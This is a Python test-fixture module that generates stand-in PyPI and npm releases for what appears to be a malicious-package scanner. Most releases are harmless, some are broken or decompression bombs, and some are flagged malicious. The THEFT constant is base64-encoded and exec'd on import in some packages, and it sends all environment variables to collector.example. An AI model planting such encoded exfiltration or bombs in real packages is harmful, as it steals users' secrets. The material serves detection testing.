"""What the stand-in registries publish: harmless releases, simulants, broken ones, and poison."""

import base64
import random
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import msgspec
from evals.build import build as build_scenario
from evals.run import look, prepare
from evals.scenario import scenarios
from tests.registry import build

FOLLOWED = ("pypi", "npm")
"""Ecosystems whose stand-in gives artifacts; simulants are of others too."""


@dataclass(frozen=True)
class Published:
    """One release. `expect` is `verdict`, `malicious`, or a reason code that its job must end with."""

    ecosystem: str
    name: str
    version: str
    file: tuple[str, bytes]
    expect: str = "verdict"
    slow: bool = False  # its file never comes to an end
    gone: bool = False  # its file is not there

    @property
    def purl(self) -> str:
        """How it is written."""
        return f"pkg:{self.ecosystem}/{self.name}@{self.version}"


def releases(count: int, folder: Path, chance: random.Random, *, whole: bool) -> list[Published]:
    """Make so many releases: a tenth simulants, a tenth broken or poison, the rest harmless; shuffled."""
    simulants = list(_simulants(max(4, count // 10), folder))
    bad = [KINDS[number % len(KINDS)](number) for number in range(max(len(KINDS), count // 10))]
    if whole:
        bad += [_slow(number) for number in range(2)] + [_run(number) for number in range(6)]
    every = simulants + bad + [_benign(number) for number in range(count - len(simulants) - len(bad))]
    chance.shuffle(every)
    return every


def _benign(number: int) -> Published:
    name, text = f"calm-{number}", f"def value():\n    return {number}\n"
    version = f"1.{number % 7}"
    if number % 2:
        return Published(
            "pypi", name, version, build.wheel(name, version, {f"calm_{number}/__init__.py": text})
        )
    file = build.tgz(name, f"{version}.0", {"index.js": f"exports.value = () => {number};\n"})
    return Published("npm", name, f"{version}.0", file)


def _simulants(count: int, folder: Path) -> Iterator[Published]:
    """Malicious scenarios of evals that reading alone convicts; in further versions, where they are too few."""
    made, version = 0, 0
    while made < count:
        version += 1
        for scenario in scenarios():
            if made == count:
                return
            if not scenario.malicious or scenario.waits or scenario.previous or scenario.registry:
                continue
            if scenario.ecosystem not in FOLLOWED:
                continue
            one = msgspec.structs.replace(scenario, version=f"1.{version}.0")
            path = build_scenario(one, folder / f"{scenario.id}-{version}")
            if look(path, prepare(folder / "home")).verdict == "malicious":
                yield Published(
                    one.ecosystem, one.name, one.version, (path.name, path.read_bytes()), "malicious"
                )
                made += 1


def _not_an_archive(number: int) -> Published:
    return Published(
        "pypi", f"torn-{number}", "1.0", (f"torn_{number}-1.0-py3-none-any.whl", b"no zip"), "unreadable"
    )


def _cut_short(number: int) -> Published:
    name = f"short-{number}"
    filename, data = build.tgz(name, "1.0.0", {"index.js": "x" * 5000})
    return Published("npm", name, "1.0.0", (filename, data[: len(data) // 2]), "any")


def _empty(number: int) -> Published:
    return Published("npm", f"empty-{number}", "1.0.0", (f"empty-{number}-1.0.0.tgz", b""), "any")


def _slow(number: int) -> Published:
    name = f"slow-{number}"
    return Published("pypi", name, "1.0", build.wheel(name, "1.0"), "any", slow=True)


def _gone(number: int) -> Published:
    name = f"gone-{number}"
    return Published("npm", name, "1.0.0", build.tgz(name, "1.0.0"), "any", gone=True)


def _deep(number: int) -> Published:
    """Source that no parser likes."""
    name, text = f"deep-{number}", "x = " + "(" * 20_000 + ")" * 20_000 + "\n"
    return Published(
        "pypi", name, "1.0", build.wheel(name, "1.0", {f"deep_{number}/__init__.py": text}), "any"
    )


def _bomb(number: int) -> Published:
    """Little that becomes very much."""
    name = f"bomb-{number}"
    file = build.tgz(name, "1.0.0", {"data.bin": b"\0" * 300_000_000 if number > 5 else b"\0" * 5_000_000})
    return Published("npm", name, "1.0.0", file, "any")


def _run(number: int) -> Published:
    """One that is run, too; every third tells only then that it steals."""
    name, text = f"run-{number}", f"import time\n\ntime.sleep({number})\n"
    if number % 3 == 0:
        text += (
            "import base64, os\n"
            f"code = {base64.b64encode(THEFT.encode()).decode()!r}\n"
            "exec(base64.b64decode(code))\n"
        )
    file = build.wheel(name, "1.0", {f"run_{number}/__init__.py": text})
    return Published("pypi", name, "1.0", file, "verdict" if number % 3 else "malicious")


THEFT = (
    "import os, urllib.request\n"
    "urllib.request.urlopen('https://collector.example/in', data=repr(dict(os.environ)).encode())\n"
)
KINDS = (_not_an_archive, _cut_short, _empty, _gone, _deep, _bomb)
